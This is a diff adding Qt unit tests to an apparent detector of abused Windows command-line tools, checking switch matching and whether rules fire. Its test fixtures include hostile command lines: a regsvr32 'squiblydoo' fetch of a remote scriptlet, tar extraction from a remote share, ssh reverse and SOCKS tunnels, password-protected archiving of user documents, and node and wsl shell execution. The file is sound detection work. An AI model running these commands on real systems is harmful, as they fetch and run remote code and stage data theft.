@@ -2,6 +2,7 @@
 // contract, and custom patterns/allowlist stored through PatternStore.
 #include "cmdlinetestdata.h"
 #include "cmdline/commandlineanalyzer.h"
+#include "cmdline/keywordmatcher.h"
 #include "core/jsonutil.h"
 #include "store/patternstore.h"
 #include "testutils.h"
@@ -82,6 +83,10 @@ private Q_SLOTS:
     void contributionsAddUp();
     void netExeVersusDotNetNames_data();
     void netExeVersusDotNetNames();
+    void switchKeywords_data();
+    void switchKeywords();
+    void switchRules_data();
+    void switchRules();
     void customPatternsAndAllowlist();
     void newRulesCatch_data();
     void newRulesCatch();
@@ -397,6 +402,83 @@ void TestCmdlineAnalyzer::netExeVersusDotNetNames()
     for (const Finding &f : r.findings)
         netRule = netRule || f.rule.startsWith(QLatin1String("lolbin:net.exe:"));
     QVERIFY2(netRule == netExe, qPrintable(describe(r)));
+}
+
+void TestCmdlineAnalyzer::switchKeywords_data()
+{
+    QTest::addColumn<QString>("keyword");
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<int>("at");
+    QTest::newRow("-p alone") << s("switch:p") << s("7z a -p out.7z") << 5;
+    QTest::newRow("/p alone") << s("switch:p") << s("tool /p x") << 5;
+    QTest::newRow("-p at the start") << s("switch:p") << s("-p") << 0;
+    QTest::newRow("-p with :value") << s("switch:p") << s("tool -p:secret") << 5;
+    QTest::newRow("-p with =value") << s("switch:p") << s("tool -p=secret") << 5;
+    QTest::newRow("quoted \"-p\"") << s("switch:p") << s("tool \"-p\" x") << 6;
+    QTest::newRow("en-dash \u2013p") << s("switch:p") << QStringLiteral(u"tool \u2013p x") << 5;
+    QTest::newRow("-P capital") << s("switch:p") << s("tool -P x") << 5;
+    QTest::newRow("p starting a path word") << s("switch:p") << s("\"C:\\Program Files\\7-Zip\\7z.exe\" a x") << -1;
+    QTest::newRow("p starting a word") << s("switch:p") << s("node webpack --mode production") << -1;
+    QTest::newRow("-p inside an argument") << s("switch:p") << s("tool a-p b") << -1;
+    QTest::newRow("--p is another switch") << s("switch:p") << s("tool --p x") << -1;
+    QTest::newRow("-pX glued, not allowed") << s("switch:p") << s("7z a -pSecret x") << -1;
+    QTest::newRow("-pX glued, allowed") << s("switch:p*") << s("7z a -pSecret x") << 5;
+    QTest::newRow("-hp glued, allowed") << s("switch:hp*") << s("rar a -hpSecret x") << 6;
+    QTest::newRow("-p is not -hp") << s("switch:hp*") << s("rar a -pSecret x") << -1;
+    QTest::newRow("/i: before a URL") << s("switch:i") << s("regsvr32 /s /i:http://x/a.sct scrobj.dll") << 12;
+    QTest::newRow("s starting System32") << s("switch:s") << s("C:\\Windows\\System32\\regsvr32.exe x.dll") << -1;
+    QTest::newRow("-s later on the line") << s("switch:s") << s("C:\\Windows\\System32\\regsvr32.exe -s x.dll") << 33;
+}
+
+void TestCmdlineAnalyzer::switchKeywords()
+{
+    QFETCH(QString, keyword);
+    QFETCH(QString, text);
+    QFETCH(int, at);
+    KeywordMatcher m;
+    const int id = m.add(keyword);
+    m.add(QStringLiteral("|p")); // a word keyword sharing the automaton must not disturb the switch
+    m.build();
+    std::vector<qsizetype> pos;
+    m.scan(text, &pos);
+    QCOMPARE(int(pos[size_t(id)]), at);
+    QVERIFY(m.keyword(id).startsWith(QLatin1Char('-')));
+}
+
+// Catalogue entries whose single-letter switches used to match the start of any word
+// ("Program Files", "System32", "deploy@", ".local"): the abuse still fires on the switch.
+void TestCmdlineAnalyzer::switchRules_data()
+{
+    QTest::addColumn<QString>("line");
+    QTest::addColumn<QString>("rule");
+    QTest::addColumn<bool>("fires");
+    QTest::newRow("7z a -p: password archive") << s("7z a -pInfected123 C:\\Users\\Public\\out.7z C:\\Users\\jdoe\\Documents") << s("lolbin:7z.exe:1") << true;
+    QTest::newRow("7z -p after the files") << s("\"C:\\Program Files\\7-Zip\\7z.exe\" a out.7z C:\\data -pS3cret") << s("archive-with-password") << true;
+    QTest::newRow("rar -hp") << s("rar a -hpSecret loot.rar C:\\data") << s("archive-with-encrypted-names") << true;
+    QTest::newRow("7z backup without password") << s("\"C:\\Program Files\\7-Zip\\7z.exe\" a C:\\Backup\\docs-2024-01.7z C:\\Users\\jdoe\\Documents\\*") << s("lolbin:7z.exe:1") << false;
+    QTest::newRow("7z extraction with password") << s("7z x archive.7z -pSecret -oC:\\out") << s("archive-with-password") << false;
+    QTest::newRow("ssh -R remote forward") << s("ssh -R 8080:localhost:80 user@203.0.113.7") << s("lolbin:ssh.exe:1") << true;
+    QTest::newRow("ssh -D1080 glued") << s("ssh -D1080 -N user@203.0.113.7") << s("lolbin:ssh.exe:1") << true;
+    QTest::newRow("ssh with a key to deploy@") << s("ssh -i C:\\Users\\jdoe\\.ssh\\id_ed25519 deploy@build01.corp.local") << s("lolbin:ssh.exe:1") << false;
+    QTest::newRow("ssh folder script") << s("\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\ProgramData\\ssh\\runtests.bat\"") << s("lolbin:ssh.exe:1") << false;
+    QTest::newRow("regsvr32 squiblydoo") << s("regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll") << s("lolbin:regsvr32.exe:1") << true;
+    QTest::newRow("tar -xf from UNC") << s("tar -xf \\\\203.0.113.7\\share\\a.tar -C C:\\Users\\Public") << s("lolbin:tar.exe:2") << true;
+    QTest::newRow("node -e") << s("node -e \"require('child_process').exec('calc')\"") << s("lolbin:node.exe:1") << true;
+    QTest::newRow("node webpack --mode production") << s("node C:\\src\\webapp\\node_modules\\.bin\\webpack --mode production") << s("lolbin:node.exe:1") << false;
+    QTest::newRow("wsl -d distribution") << s("wsl.exe -d Ubuntu-22.04 -- make test") << s("lolbin:wsl.exe:1") << false;
+    QTest::newRow("wsl -e") << s("wsl.exe -e /bin/sh -c id") << s("lolbin:wsl.exe:1") << true;
+}
+
+void TestCmdlineAnalyzer::switchRules()
+{
+    QFETCH(QString, line);
+    QFETCH(QString, rule);
+    QFETCH(bool, fires);
+    const AnalysisResult r = analyzer().analyze(line);
+    bool fired = false;
+    for (const Finding &f : r.findings)
+        fired = fired || f.rule == rule;
+    QVERIFY2(fired == fires, qPrintable(describe(r)));
 }
 
 void TestCmdlineAnalyzer::contributionsAddUp()
